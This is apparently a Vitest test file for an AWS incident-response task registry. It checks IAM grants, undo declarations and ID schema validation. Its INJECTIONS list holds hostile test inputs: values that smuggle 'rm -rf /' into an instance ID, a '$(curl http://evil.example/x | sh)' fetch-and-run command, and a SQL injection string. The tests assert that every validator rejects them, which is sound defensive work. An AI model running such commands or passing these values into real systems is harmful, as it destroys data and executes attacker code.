import { describe, it, expect } from "vitest";
import * as z from "zod";
import * as ids from "../functions/contract/aws-ids.js";
import { defineTaskContract, TaskContractError } from "../functions/contract/task-contract.js";
import type { TaskContract } from "../functions/contract/task-contract.js";
import { SYSTEM_TASKS, TASK_CONTRACTS, findTask } from "../functions/registry.js";

const INJECTIONS = [
  "i-123; rm -rf /",
  "i-0123456789abcdef0; rm -rf /",
  "i-0123456789abcdef0\nrm -rf /",
  "$(curl http://evil.example/x | sh)",
  "' OR '1'='1' --",
];

/** Input fields that carry an AWS identifier or name, by the naming convention the contracts follow. */
const ID_FIELD = /(Id|Ids|Name|Names|Arn|Arns|Bucket)$/;

/** aws-ids exports that are values, not identifiers. */
const NOT_IDS = new Set(["Port", "IpProtocol", "TagKey", "TagValue", "NetworkAclRuleNumber"]);

function idFields(task: TaskContract): [string, z.ZodType][] {
  return Object.entries(task.input.shape as Record<string, z.ZodType>).filter(([key]) => ID_FIELD.test(key));
}

describe("task registry", () => {
  it("registers the system tasks", () => {
    for (const name of Object.values(SYSTEM_TASKS)) expect(findTask(name)).toBeDefined();
  });

  it("has unique task names", () => {
    const names = TASK_CONTRACTS.map((task) => task.name);
    expect(new Set(names).size).toBe(names.length);
  });

  it("declares undo and plan for every task that changes something", () => {
    for (const task of TASK_CONTRACTS.filter((t) => t.risk !== "read")) {
      expect(task.undo, task.name).toBeDefined();
      expect(task.plan, task.name).toMatch(/\S/);
    }
  });

  it("undoes only through registered, non-system tasks that change something", () => {
    const system = new Set<string>(Object.values(SYSTEM_TASKS));
    for (const task of TASK_CONTRACTS) {
      if (task.undo === undefined || !("by" in task.undo)) continue;
      const target = findTask(task.undo.by);
      expect(target, `${task.name} undo.by ${task.undo.by}`).toBeDefined();
      expect(system.has(task.undo.by), task.name).toBe(false);
      expect(target?.risk, task.name).not.toBe("read");
    }
  });

  it("gives a reason whenever a task cannot be undone", () => {
    for (const task of TASK_CONTRACTS) {
      if (task.undo !== undefined && "none" in task.undo) expect(task.undo.none.length, task.name).toBeGreaterThan(10);
    }
  });

  it("declares destroyed evidence only on tasks that change something", () => {
    for (const task of TASK_CONTRACTS) {
      if ((task.evidence?.destroys ?? []).length > 0) expect(task.risk, task.name).not.toBe("read");
    }
  });

  it("never asks for a wildcard action and names every action exactly", () => {
    for (const task of TASK_CONTRACTS) {
      for (const grant of task.iam) {
        for (const action of grant.actions) {
          expect(action, task.name).not.toContain("*");
          expect(action, task.name).toMatch(/^[a-z0-9-]+:[A-Za-z]+$/);
        }
      }
    }
  });

  it("names the resources of every grant, as templates or stack placeholders", () => {
    for (const task of TASK_CONTRACTS) {
      for (const grant of task.iam) {
        expect(grant.resources?.length ?? 0, `${task.name} ${grant.actions.join(",")}`).toBeGreaterThan(0);
        for (const resource of grant.resources ?? []) {
          expect(resource === "*" || resource.startsWith("arn:{partition}:") || resource.startsWith("{"), `${task.name} ${resource}`).toBe(true);
        }
      }
    }
  });

  it("converts every input and output to JSON Schema", () => {
    for (const task of TASK_CONTRACTS) {
      for (const schema of [task.input, task.output]) {
        expect(() => z.toJSONSchema(schema, { io: "input", unrepresentable: "any" }), task.name).not.toThrow();
      }
    }
  });

  it("rejects injection strings in every id field of every library task's input", () => {
    // System tasks carry irflow's own ids (execution, incident, step), not AWS ones.
    const system = new Set<string>(Object.values(SYSTEM_TASKS));
    let checked = 0;
    for (const task of TASK_CONTRACTS.filter((t) => !system.has(t.name))) {
      for (const [key, schema] of idFields(task)) {
        for (const value of INJECTIONS) {
          expect(schema.safeParse(value).success, `${task.name}.${key} ${JSON.stringify(value)}`).toBe(false);
          expect(schema.safeParse([value]).success, `${task.name}.${key} [${JSON.stringify(value)}]`).toBe(false);
        }
        checked += 1;
      }
    }
    expect(checked).toBeGreaterThan(40);
  });

  it("rejects injection strings in every id schema", () => {
    const schemas = Object.entries(ids).filter(([name, value]) => value instanceof z.ZodType && !NOT_IDS.has(name));
    expect(schemas.length).toBeGreaterThan(20);
    for (const [name, schema] of schemas as [string, z.ZodType][]) {
      for (const value of INJECTIONS) expect(schema.safeParse(value).success, `${name} ${JSON.stringify(value)}`).toBe(false);
    }
  });

  it("accepts well-formed ids", () => {
    expect(ids.InstanceId.safeParse("i-0123456789abcdef0").success).toBe(true);
    expect(ids.AutoScalingGroupName.safeParse("web-asg/blue_1").success).toBe(true);
    expect(ids.AutoScalingGroupName.safeParse("web:asg").success).toBe(false);
    expect(ids.UserAccessKeyId.safeParse("AKIAIOSFODNN7EXAMPLE").success).toBe(true);
    expect(ids.UserAccessKeyId.safeParse("ASIAIOSFODNN7EXAMPLE").success).toBe(false);
  });
});

describe("defineTaskContract", () => {
  const valid = {
    name: "ec2.example-change",
    summary: "An example",
    risk: "reversible",
    csf: ["RS.MI-01"],
    input: z.object({ instanceId: ids.InstanceId }),
    output: z.object({ instanceId: ids.InstanceId }),
    iam: [{ actions: ["ec2:ModifyInstanceAttribute"], resources: ["arn:{partition}:ec2:{region}:{account}:instance/*"] }],
    plan: "ModifyInstanceAttribute with DryRun",
    undo: { none: "an example" },
  } satisfies TaskContract;

  it("accepts a complete declaration", () => {
    expect(() => defineTaskContract(valid)).not.toThrow();
  });

  it("refuses a wildcard action", () => {
    expect(() => defineTaskContract({ ...valid, iam: [{ actions: ["ec2:*"], resources: ["*"] }] })).toThrow(TaskContractError);
    expect(() => defineTaskContract({ ...valid, iam: [{ actions: ["ec2:Describe*"], resources: ["*"] }] })).toThrow(TaskContractError);
  });

  it("refuses a change without undo", () => {
    expect(() => defineTaskContract({ ...valid, undo: undefined })).toThrow(/undone/);
    expect(() => defineTaskContract({ ...valid, risk: "destructive", undo: undefined })).toThrow(/undone/);
  });

  it("refuses an empty csf", () => {
    expect(() => defineTaskContract({ ...valid, csf: [] })).toThrow(/CSF/);
  });
});
